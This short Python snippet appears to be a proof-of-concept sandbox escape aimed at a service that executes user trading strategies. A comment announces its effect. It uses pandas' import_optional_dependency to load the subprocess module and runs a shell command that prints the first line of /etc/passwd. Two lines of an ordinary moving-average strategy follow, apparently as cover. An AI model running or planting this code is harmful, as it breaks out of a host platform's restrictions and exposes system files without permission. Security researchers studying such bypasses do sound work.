# effect: pandas imports any module by its name; a process prints the user database
from pandas.compat._optional import import_optional_dependency

shell = import_optional_dependency('subprocess')
print(shell.getoutput('head -1 /etc/passwd'))
close = data.get('price:收盤價')
position = close > close.average(20)
